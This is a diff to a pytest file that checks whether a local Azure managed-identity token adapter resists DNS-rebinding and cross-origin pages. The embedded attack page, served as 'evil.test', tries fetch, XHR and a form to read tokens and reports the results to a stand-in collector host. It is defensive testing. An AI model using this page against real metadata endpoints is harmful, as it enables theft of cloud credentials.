@@ -7,6 +7,11 @@ rebinding attack, so the page's ``fetch`` may set ``Metadata: true`` without a p
 read the answer. The page tries ``fetch``, ``XMLHttpRequest`` and a form, and reports what it
 read to a collector. The control runs the same page against a server without the bridge's
 checks (the emulator), and the page does read a token there: the browser is not what stops it.
+
+The same holds for ``legacy-msi adapt`` by both its protocols, for a page that knows the
+adapter's secret: App Service's with ``X-IDENTITY-HEADER``, IMDS's with ``Metadata: true``,
+from the page's own origin (rebound, or a page once served from the loopback port the adapter
+now holds, where only the browser headers give it away) and from another origin.
 """
 
 from __future__ import annotations
@@ -27,6 +32,7 @@ from urllib.parse import parse_qsl, urlsplit
 import pytest
 from azure.core.credentials import AccessToken
 
+from legacy_msi_credential.adapt import Adapter, Secret
 from legacy_msi_credential.bridge import Bridge, TokenSource
 from legacy_msi_credential.emulator import Emulator
 
@@ -38,24 +44,34 @@ PAGE = """<!doctype html><title>rebinding</title><iframe name="sink"></iframe>
 <input name="resource" value="https://management.azure.com/"></form>
 <script>
 const collector = "http://collector.test:COLLECTOR";
-const query = "/oauth2/token?resource=" + encodeURIComponent("https://management.azure.com/");
+const plan = PLAN;
 const report = (what) => fetch(collector + "/report?" + new URLSearchParams(what), {mode: "no-cors"});
 const sleep = (ms) => new Promise((done) => setTimeout(done, ms));
+// Same origin as the page (a relative URL), or another origin naming the same port.
+const other = location.hostname === "127.0.0.1" ? "localhost" : "127.0.0.1";
+const where = (step) => step.cross ? "http://" + other + ":" + location.port + step.path : step.path;
 async function attack() {
   const out = {};
-  try {
-    const answer = await fetch(query, {headers: {Metadata: "true"}});
-    out.fetch_status = answer.status;
-    out.fetch_body = (await answer.text()).slice(0, 3000);
-  } catch (error) { out.fetch_error = String(error); }
-  await new Promise((done) => {
-    const xhr = new XMLHttpRequest();
-    xhr.open("GET", query);
-    xhr.setRequestHeader("Metadata", "true");
-    xhr.onload = () => { out.xhr_status = xhr.status; out.xhr_body = xhr.responseText.slice(0, 3000); done(); };
-    xhr.onerror = () => { out.xhr_error = "network error"; done(); };
-    xhr.send();
-  });
+  for (const step of plan) {
+    const name = step.name, url = where(step);
+    try {
+      const answer = await fetch(url, {headers: step.headers});
+      out[name + "fetch_status"] = answer.status;
+      out[name + "fetch_body"] = (await answer.text()).slice(0, 3000);
+    } catch (error) { out[name + "fetch_error"] = String(error); }
+    await new Promise((done) => {
+      const xhr = new XMLHttpRequest();
+      xhr.open("GET", url);
+      for (const [key, value] of Object.entries(step.headers)) xhr.setRequestHeader(key, value);
+      xhr.onload = () => {
+        out[name + "xhr_status"] = xhr.status;
+        out[name + "xhr_body"] = xhr.responseText.slice(0, 3000);
+        done();
+      };
+      xhr.onerror = () => { out[name + "xhr_error"] = "network error"; done(); };
+      xhr.send();
+    });
+  }
   const frame = document.querySelector("iframe");
   await new Promise((done) => { frame.onload = done; document.getElementById("form").submit(); });
   try { out.form_body = frame.contentDocument.body.innerText.slice(0, 3000); }
@@ -113,8 +129,13 @@ class Collector(http.server.ThreadingHTTPServer):
                 self.arrived.wait(0.2)
 
 
-def serve_page(port: int, collector_port: int) -> http.server.ThreadingHTTPServer:
-    page = PAGE.replace("COLLECTOR", str(collector_port)).encode()
+#: What the page tries by default: the legacy protocol, with the header its clients send.
+LEGACY_PLAN = [{"name": "", "path": "/oauth2/token?resource=https%3A%2F%2Fmanagement.azure.com%2F",
+                "headers": {"Metadata": "true"}}]  # fmt: skip
+
+
+def serve_page(port: int, collector_port: int, plan: list[dict[str, Any]]) -> http.server.ThreadingHTTPServer:
+    page = PAGE.replace("COLLECTOR", str(collector_port)).replace("PLAN", json.dumps(plan)).encode()
 
     class Handler(http.server.BaseHTTPRequestHandler):
         def log_message(self, *args: Any) -> None:
@@ -158,9 +179,11 @@ def browser_run(tmp_path: Path) -> Iterator[Any]:
     threading.Thread(target=collector.serve_forever, daemon=True).start()
     processes: list[subprocess.Popen[bytes]] = []
 
-    def run(start_target: Any) -> dict[str, Any]:
+    def run(start_target: Any, plan: list[dict[str, Any]] = LEGACY_PLAN, origin: str = "evil.test") -> dict[str, Any]:
+        """Load the page from ``http://ORIGIN:PORT/``, put ``start_target(PORT)`` in its place,
+        let the page try each step of ``plan`` by fetch and XMLHttpRequest, and return what it read."""
         port = free_port()
-        page = serve_page(port, collector.server_address[1])
+        page = serve_page(port, collector.server_address[1], plan)
         rules = "MAP evil.test 127.0.0.1, MAP collector.test 127.0.0.1"
         process = subprocess.Popen(
             [
@@ -176,7 +199,7 @@ def browser_run(tmp_path: Path) -> Iterator[Any]:
                 "--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessRespectPreflightResults",
                 f"--host-resolver-rules={rules}",
                 f"--user-data-dir={tmp_path / 'profile'}",
-                f"http://evil.test:{port}/",
+                f"http://{origin}:{port}/",
             ],
             stdout=subprocess.DEVNULL,
             stderr=subprocess.DEVNULL,
@@ -237,3 +260,55 @@ def test_a_page_cannot_read_a_token_from_the_bridge(browser_run: Any) -> None:
     assert result.get("xhr_status") == 401
     assert "access_token" not in result.get("form_body", "")
     assert bridges[0].source.requests == 0  # refused before the source was asked
+
+
+# --- legacy-msi adapt: a page that knows the secret still reads no token ----------------------
+
+#: The adapter's secret, as a page would have it if it had read the environment file.
+ADAPT_SECRET = Secret("browser-test-secret-0123456789-abcdefghijklmn")
+_APP_SERVICE = "/msi/token?api-version=2019-08-01&resource=https%3A%2F%2Fmanagement.azure.com%2F"
+_IMDS = "/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fmanagement.azure.com%2F"
+#: Each protocol with the header its clients send, from the page's own origin (no preflight:
+#: the server is same-origin for the browser) and from another origin (a preflight first).
+ADAPT_PLAN = [
+    {"name": f"{protocol}_{where}_", "path": path, "headers": headers, "cross": where == "cross"}
+    for protocol, path, headers in (
+        ("app", _APP_SERVICE, {"X-IDENTITY-HEADER": ADAPT_SECRET.reveal()}),
+        ("imds", _IMDS, {"Metadata": "true"}),
+    )
+    for where in ("same", "cross")
+]
+
+
+@pytest.mark.parametrize(
+    "origin",
+    [
+        "evil.test",  # DNS rebinding: the page's name now resolves to loopback (Host: evil.test:PORT)
+        "127.0.0.1",  # a page once served on the port the adapter now holds (Host: 127.0.0.1:PORT)
+    ],
+)
+def test_a_page_that_knows_the_secret_cannot_read_a_token_from_the_adapter(browser_run: Any, origin: str) -> None:
+    """By App Service's protocol with the secret and by IMDS's with ``Metadata: true``, from the
+    page's origin and from another: every answer the page can read is a refusal, and the
+    extension is never asked. From another origin the browser's preflight is refused first."""
+    with Emulator(port=0, ipv6=False) as extension:
+        adapters: list[Adapter] = []
+
+        def start(port: int) -> Adapter:
+            adapter = Adapter(port=port, secret=ADAPT_SECRET, endpoint=extension.endpoint).start()
+            adapters.append(adapter)
+            return adapter
+
+        result = browser_run(start, ADAPT_PLAN, origin)
+        text = json.dumps(result)
+        assert "access_token" not in text, result
+        for protocol in ("app", "imds"):
+            same, cross = f"{protocol}_same_", f"{protocol}_cross_"
+            assert result.get(same + "fetch_status") == 401, result  # the adapter answered, and refused
+            assert json.loads(result[same + "fetch_body"])["error"] in ("unknown_source", "unauthorized_client")
+            assert result.get(same + "xhr_status") == 401, result
+            assert "fetch_status" not in json.dumps({k: v for k, v in result.items() if k.startswith(cross)})
+            assert cross + "fetch_error" in result, result  # the preflight was refused: nothing to read
+            assert cross + "xhr_error" in result, result
+        assert adapters[0].source.requests == 0  # refused before the extension was asked
+        assert extension.minted_tokens == []
